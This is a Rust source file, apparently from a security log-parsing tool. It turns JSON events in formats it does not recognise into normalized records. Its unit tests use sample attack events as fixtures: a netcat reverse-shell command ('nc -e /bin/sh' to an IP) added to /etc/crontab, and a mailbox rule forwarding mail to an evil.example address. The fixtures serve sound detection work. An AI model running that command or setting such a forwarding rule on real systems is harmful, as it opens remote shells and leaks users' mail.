//! Any other JSON object that tells of something that happened: of a source in which no form is recognised.
//!
//! It is one if it has a time, or names a host or an account, and says something. What was done, by whom, from where, upon what and how it
//! ended is looked for under the names that services and products have for it; whatever else it tells is told in quotation marks, since
//! nobody knows who chose it.

use std::borrow::Cow;

use serde_json::Value;

use super::audit_events::{ACCOUNT, ADDRESS, MAX_ACTION, UPON, ending};
use super::detections::{FILE, HOST, PROCESS};
use super::fields::{is_id, is_name, scalar, time as time_of};
use super::named::{Named, within};
use super::{Draft, Envelope, Format, Object, Record, clean, listed, quoted, some, told};
use crate::Timestamp;
use crate::record::RecordKind;
use crate::text::shorten;

/// When it happened, by names beside those that others have as well.
const TIME: [&str; 16] = [
    "datetime",
    "@timestamp",
    "ts",
    "eventdatetime",
    "starttime",
    "edgestarttimestamp",
    "timecreated",
    "recordedat",
    "published",
    "unixtime",
    "calendartime",
    "createtime",
    "receivedat",
    "timenano",
    "logtime",
    "lastseen",
];
/// Where it happened, likewise.
const PLACE: [&str; 12] = [
    "host.name",
    "host.hostname",
    "host",
    "hostidentifier",
    "agent.name",
    "agent.hostname",
    "computer",
    "workstation",
    "server",
    "node",
    "instance",
    "device",
];
/// What was done.
const DONE: [&str; 19] = [
    "event.action",
    "action",
    "eventname",
    "eventtypename",
    "eventtype",
    "operation",
    "operationname",
    "activity",
    "activityname",
    "auditlogevent",
    "actiontype",
    "method",
    "attacktype",
    "event",
    "event.type",
    "name",
    "type",
    "category",
    "kind",
];
/// What is said of it in a sentence, in which others' words may stand.
const SAID: [&str; 10] = [
    "msg",
    "message",
    "title",
    "summary",
    "primarydescription",
    "activitydescription",
    "description",
    "text",
    "log",
    "detail",
];
const RESULT: [&str; 9] = [
    "result",
    "outcome",
    "outcome.result",
    "status",
    "success",
    "decision",
    "actiontaken",
    "responsestatus",
    "verdict",
];
/// Most facts beside these, and how long each and all of them may be.
const MAX_FACTS: usize = 10;
const MAX_FACT: usize = 120;
const MAX_FACTS_LENGTH: usize = 320;
/// Longest name of a fact.
const MAX_KEY: usize = 64;
/// Most items of a list that are gone into.
const MAX_ITEMS: usize = 8;
/// How deep facts are looked for.
const MAX_DEPTH: u32 = 3;

/// An object as an event, if it tells of one.
pub(crate) fn event(object: &Object, envelope: &Envelope<'_>) -> Option<Record> {
    let is_placed =
        |named: Named<'_>| time(named).is_some() || named.text(&ACCOUNT).is_some() || host(named).is_some();
    let says = |named: Named<'_>| is_placed(named) && (done(named).is_some() || named.text(&SAID).is_some());
    let event = within(object, says).or_else(|| within(object, is_placed))?;
    let (done, said) = (done(event).unwrap_or_default(), event.text(&SAID).unwrap_or_default());
    let account = event.text(&ACCOUNT).unwrap_or_default();
    let source = event.address(&ADDRESS);
    let host = host(event).unwrap_or_default();
    let upon = event.text(&UPON).filter(|upon| *upon != account);
    let (ended, verdict) = ending(&event.text(&RESULT).unwrap_or_default());
    let (process, file) = (event.text(&PROCESS).unwrap_or_default(), event.text(&FILE).unwrap_or_default());
    // Where the service has no few words of its own, its sentence is the title.
    let said = if done.is_empty() { &*said } else { "" };
    let title = if said.is_empty() { done.clone() } else { Cow::Owned(brief(said)) };
    let from = source.as_ref().map(|end| end.address.as_str());
    let known = [
        &*done,
        said,
        upon.as_deref().unwrap_or_default(),
        &account,
        &host,
        &process,
        &file,
        from.unwrap_or_default(),
    ];
    let facts = listed([
        told("by", some(&account)),
        told("from", from),
        told("upon", upon.as_deref()),
        ended.map(str::to_owned),
        told("command", some(&process).map(brief)),
        told("file", some(&file).map(brief)),
        some(&others(object, &known)).map(str::to_owned),
    ]);
    if title.is_empty() && facts.is_empty() {
        return None;
    }
    let draft = Draft {
        kind: RecordKind::Log,
        time: time(event).or_else(|| time(Named(object))),
        message: Cow::Owned(if title.is_empty() { facts } else { super::titled(&title, &facts) }),
        host,
        source,
        account,
        process,
        file,
        verdict,
        ..Draft::default()
    };
    Some(draft.finish(Format::OtherJson, object, envelope))
}

fn time(event: Named<'_>) -> Option<Timestamp> {
    event.time().or_else(|| event.first(&TIME, time_of))
}

/// What was done, in the service's own few words.
fn done<'a>(event: Named<'a>) -> Option<Cow<'a, str>> {
    event.text(&DONE).filter(|done| done.len() <= MAX_ACTION && !done.contains(['"', '{', '\n']))
}

fn host<'a>(event: Named<'a>) -> Option<Cow<'a, str>> {
    event.text(&HOST).or_else(|| event.text(&PLACE)).filter(|host| is_name(host))
}

/// In quotation marks, and of bounded length.
fn brief(text: &str) -> String {
    quoted(&shorten(text, MAX_FACT))
}

/// What else the object tells, from its first members on: words, not identifiers, times and measures.
pub(super) fn others(object: &Object, told: &[&str]) -> String {
    let mut facts = Vec::new();
    collect(object, 0, told, &mut facts);
    let mut text = String::new();
    for fact in facts {
        if text.len() + fact.len() > MAX_FACTS_LENGTH {
            continue;
        }
        if !text.is_empty() {
            text.push_str(", ");
        }
        text.push_str(&fact);
    }
    text
}

fn collect(object: &Object, depth: u32, told: &[&str], facts: &mut Vec<String>) {
    // `{"Name":"ForwardTo","Value":"x"}` says `ForwardTo "x"`.
    let pair = Named(object).text(&["name"]).zip(Named(object).text(&["value"]));
    if let Some((name, value)) = pair.filter(|_| depth > 0) {
        return tell(&name, &value, told, facts);
    }
    for (key, value) in object.iter().filter(|(key, _)| !is_of_record(key)) {
        match value {
            Value::Object(inner) if depth < MAX_DEPTH => collect(inner, depth + 1, told, facts),
            Value::Array(items) if items.first().is_some_and(Value::is_object) => {
                if depth < MAX_DEPTH {
                    let inner = items.iter().take(MAX_ITEMS).filter_map(Value::as_object);
                    inner.for_each(|inner| collect(inner, depth + 1, told, facts));
                }
            }
            _ => {
                if let Some(text) = scalar(value) {
                    tell(key, &text, told, facts);
                }
            }
        }
    }
}

/// Adds `name "value"`, unless it is known already or says nothing.
fn tell(name: &str, value: &str, told: &[&str], facts: &mut Vec<String>) {
    if facts.len() >= MAX_FACTS || !is_fact(value) || told.contains(&value) {
        return;
    }
    let fact = format!("{} {}", clean(&name.replace('"', "'"), MAX_KEY), brief(value));
    if !facts.contains(&fact) {
        facts.push(fact);
    }
}

/// Whether a member is about the record or the client's program and not about what happened: identifiers, versions, kinds of objects,
/// browsers, where an address lies.
fn is_of_record(key: &str) -> bool {
    const ENDS: [&str; 10] =
        ["id", "ids", "uuid", "guid", "version", "hash", "sid", "etag", "agent", "timestamp"];
    const WHOLE: [&str; 17] = [
        "type",
        "kind",
        "rel",
        "href",
        "ts",
        "schema",
        "ua",
        "browser",
        "os",
        "geo",
        "geolocation",
        "geographicalcontext",
        "city",
        "state",
        "country",
        "postalcode",
        "timezone",
    ];
    let bare: String =
        key.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect();
    WHOLE.contains(&bare.as_str()) || ENDS.iter().any(|end| bare.ends_with(end))
}

/// Whether a value says something: it has letters, and is no identifier and no time.
fn is_fact(text: &str) -> bool {
    text.bytes().any(|byte| byte.is_ascii_alphabetic())
        && !text.split([':', '/']).all(is_id)
        && Timestamp::parse(text).is_none()
        && !matches!(text, "true" | "false")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(text: &str) -> Option<Record> {
        event(&serde_json::from_str(text).unwrap(), &Envelope::default())
    }

    #[test]
    fn who_did_what_is_found_under_many_names_and_the_rest_is_told_in_quotation_marks() {
        for (text, message, account, source) in [
            (
                r#"{"operation":"Set-Mailbox","userid":"alice@corp.example","clientip":"203.0.113.9","parameters":[{"Name":"Identity","Value":"alice"},{"Name":"ForwardTo","Value":"x@evil.example"}],"id":"1f2e3d4c-0000-4000-8000-1234567890ab"}"#,
                "Set-Mailbox: by alice@corp.example, from 203.0.113.9, Identity \"alice\", ForwardTo \"x@evil.example\"",
                "alice@corp.example",
                "203.0.113.9",
            ),
            (
                r#"{"time":1780491571,"Action":"start","Actor":{"Attributes":{"image":"nginx:latest","name":"web"}},"Type":"container"}"#,
                "start: image \"nginx:latest\", name \"web\"",
                "",
                "",
            ),
            (
                r#"{"hostIdentifier":"web01","action":"added","columns":{"command":"nc -e /bin/sh 203.0.113.9","path":"/etc/crontab"}}"#,
                "added: command \"nc -e /bin/sh 203.0.113.9\", path \"/etc/crontab\"",
                "",
                "",
            ),
            (r#"{"ts":"2026-06-03T12:59:31Z","msg":"said \"no\" to bob"}"#, "\"said 'no' to bob\"", "", ""),
        ] {
            let record = told(text).unwrap();
            assert_eq!(record.message, message);
            assert_eq!((record.kind, record.format), (RecordKind::Log, Format::OtherJson), "{text}");
            assert_eq!(record.account, account, "{text}");
            assert_eq!(record.source.map(|end| end.address).unwrap_or_default(), source, "{text}");
        }
    }

    #[test]
    fn an_object_that_says_neither_when_nor_who_nor_what_is_none() {
        for text in
            [r#"{"a":1}"#, r#"{"message":"hello"}"#, r#"{"time":"2026-06-03T12:59:31Z","count":3}"#, "{}"]
        {
            assert_eq!(told(text), None, "{text}");
        }
    }
}
